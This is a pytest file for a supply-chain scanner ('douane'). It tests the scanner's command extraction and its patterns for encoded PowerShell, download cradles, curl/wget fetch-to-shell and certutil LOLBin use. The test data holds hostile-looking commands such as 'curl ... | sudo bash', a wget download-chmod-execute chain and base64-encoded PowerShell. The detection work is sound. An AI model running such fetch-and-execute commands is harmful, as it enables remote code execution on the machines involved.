"""Command-text folding and command patterns behind the process rules (DOU2xx)."""

from __future__ import annotations

import ast

import pytest

from douane.analysis.context import FileContext, PyContext
from douane.analysis.interface import FileType
from douane.analysis.process import (
    FETCH_TO_SHELL,
    HOLE,
    PS_CRADLE,
    PS_ENCODED,
    command_of,
    lolbin_in,
)
from douane.domain import ArtifactKind, Member, Where


def first_call(src: str) -> tuple[ast.Call, PyContext]:
    tree = ast.parse(src)
    fctx = FileContext(Member("m.py", src.encode(), len(src)), "m.py", FileType.PYTHON, Where.IMPORT,
                       ArtifactKind.SDIST)  # fmt: skip
    ctx = PyContext(fctx, tree, aliases={"subprocess": "subprocess", "os": "os", "sys": "sys"})
    call = next(n for n in ast.walk(tree) if isinstance(n, ast.Call))
    return call, ctx


def test_command_keeps_constant_parts_of_a_built_string():
    call, ctx = first_call("os.system('curl ' + url + ' | sh')")
    assert command_of(call, ctx) == f"curl {HOLE} | sh"


def test_command_joins_list_arguments():
    call, ctx = first_call("subprocess.run([sys.executable, '-m', 'pip', 'install', name])")
    assert command_of(call, ctx) == f"{HOLE} -m pip install {HOLE}"


@pytest.mark.parametrize(
    "cmd",
    ["powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "pwsh.exe -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A",
     "PowerShell -ec SQBFAFgAIAAoAE4AZQB3AC0A"],
)  # fmt: skip
def test_encoded_powershell_abbreviations(cmd):
    assert PS_ENCODED.search(cmd)


def test_plain_powershell_is_not_encoded():
    assert not PS_ENCODED.search("powershell -ExecutionPolicy Bypass -File build.ps1")
    assert not PS_CRADLE.search(
        "powershell Invoke-WebRequest https://h.example.invalid/a.zip -OutFile a.zip"
    )


def test_fetch_to_shell_needs_the_pipe_or_the_run():
    assert FETCH_TO_SHELL.search("curl -fsSL https://h.example.invalid/i.sh | sudo bash")
    assert FETCH_TO_SHELL.search("wget -q http://h/a -O /tmp/a && chmod +x /tmp/a && /tmp/a")
    assert not FETCH_TO_SHELL.search("curl -fsSL -o out.tar.gz https://h.example.invalid/x.tar.gz")


def test_lolbin_labels():
    assert lolbin_in("certutil -urlcache -f http://h/a a.exe") == "certutil download/decode"
    assert lolbin_in("certutil -hashfile a.whl SHA256") is None
